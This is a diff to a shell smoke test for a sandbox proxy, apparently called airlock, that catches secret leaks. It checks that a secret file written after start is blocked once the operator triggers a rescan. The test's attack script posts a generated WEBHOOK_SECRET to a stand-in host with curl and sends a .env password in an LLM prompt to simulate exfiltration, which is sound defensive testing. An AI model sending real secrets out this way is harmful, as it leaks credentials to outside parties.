@@ -8,7 +8,9 @@
 # fake internet (its log) or the wire (tcpdump: the raw capture and wire_check.py). Bad
 # input at start: a file over the size limit, a binary key and a symlink out of the
 # workspace, one line each, the start goes on. The workspace is fixture-heavy (thousands
-# of files): the scan's time and the ready line are printed.
+# of files): the scan's time and the ready line are printed. A secret file the agent writes
+# after start passes until the operator's rescan (SIGHUP to the container, what `airlock
+# rescan` sends) and is refused after it.
 # Usage: sudo tests/smoke/workspace-secrets.sh
 source "$(dirname "$0")/lib.sh"
 smoke_sweep
@@ -104,6 +106,16 @@ body=$(printf '{"messages":[{"role":"user","content":"my .env: DB_PASSWORD=%s an
 echo "llm=$($C -H 'content-type: application/json' --data-binary "$body" https://api.anthropic.com/v1/messages)"
 echo "report_lines=$(wc -l </run/airlock/workspace-secrets)"
 cp /run/airlock/workspace-secrets /tmp/report && echo "report=$(tr '\n' '|' </tmp/report)"
+# A secret file written after start (no known format): read only on a rescan, which the
+# operator asks for once this session says it wrote the file.
+LATER=$(head -c 64 /dev/urandom | base64 | tr -dc A-Za-z0-9 | head -c 32)
+printf 'WEBHOOK_SECRET=%s\n' "$LATER" >/workspace/.env.later
+echo "later_before=$($C --data-binary "w=$LATER" https://allowed.test/later-before)"
+echo "later_value=$LATER"
+echo "wrote_later=1"
+for _ in $(seq 600); do [ -e /workspace/.rescan-done ] && break; sleep 0.1; done
+echo "later_after=$($C --data-binary "w=$LATER" https://allowed.test/later-after)"
+echo "later_report=$(grep -c 'rescanned at' /run/airlock/workspace-secrets)"
 SH
 chmod 0755 "$repo/attack.sh"
 
@@ -114,7 +126,17 @@ AIRLOCK_NO_BUILD=1 AIRLOCK_IMAGE=$SMOKE_IMAGE AIRLOCK_POLICY=$SMOKE_DIR/policy.t
 AIRLOCK_AUDIT_VOLUME=$AUDIT \
 AIRLOCK_DOCKER_ARGS="--name $APP --network $NET --ip $APP4 --ip6 $APP6 --dns $UP4 -v $SMOKE_DIR/ca.pem:/etc/ssl/fakenet-ca.pem:ro -e AIRLOCK_UPSTREAM_CA=/etc/ssl/fakenet-ca.pem" \
     "$SMOKE_ROOT/scripts/docker-run" "$repo" -- bash /workspace/attack.sh \
-    >"$SMOKE_DIR/agent.out" 2>"$SMOKE_DIR/agent.err" || true
+    >"$SMOKE_DIR/agent.out" 2>"$SMOKE_DIR/agent.err" &
+run_pid=$!
+# The operator's rescan (what `airlock rescan` sends): SIGHUP to the container once the
+# agent wrote its new secret file; the agent goes on when the proxy has the new needles.
+for _ in $(seq 600); do grep -q '^wrote_later=1' "$SMOKE_DIR/agent.out" && break; sleep 0.1; done
+if grep -q '^wrote_later=1' "$SMOKE_DIR/agent.out"; then
+    docker kill -s HUP "$APP" >/dev/null
+    for _ in $(seq 200); do grep -q 'workspace secrets reloaded' "$SMOKE_DIR/agent.err" && break; sleep 0.1; done
+    install -o 1000 -g 1000 /dev/null "$repo/.rescan-done"
+fi
+wait "$run_pid" || true
 sleep 0.5
 kill "$tcpdump_pid" 2>/dev/null; wait "$tcpdump_pid" 2>/dev/null || true
 out=$(cat "$SMOKE_DIR/agent.out")
@@ -148,6 +170,18 @@ for item in env_file password_plain password_urlencoded password_https password_
 done
 check "an honest write to the same host: 200 ($(get honest))" [ "$(get honest)" = "200:" ]
 check "the .env in a prompt to the LLM API: 200 ($(get llm))" [ "$(get llm)" = "200:" ]
+LATER=$(get later_value)
+check "a secret file written after start: not yet a needle, 200 ($(get later_before))" \
+    [ "$(get later_before)" = "200:" ]
+check "the rescan's reload line names the new needle" \
+    grep -q 'workspace secrets reloaded: .*(1 new, 0 gone)' "$err"
+check "after the rescan the same value: 403 foreign-secret ($(get later_after))" \
+    [ "$(get later_after)" = 403:foreign-secret ]
+check "the report in the sandbox says it was rescanned" [ "$(get later_report)" = 1 ]
+check "the later value never reached the upstream after the rescan" \
+    bash -c '! grep -q "\"path\":\"/later-after\"" "$1"' _ "$SMOKE_DIR/log/fakenet.jsonl"
+check "no start-up or rescan line holds the later value" \
+    bash -c '[ -n "$1" ] && ! grep -qF -- "$1" "$2"' _ "$LATER" "$err"
 
 say "upstream, audit log and wire"
 ulog=$SMOKE_DIR/log/fakenet.jsonl
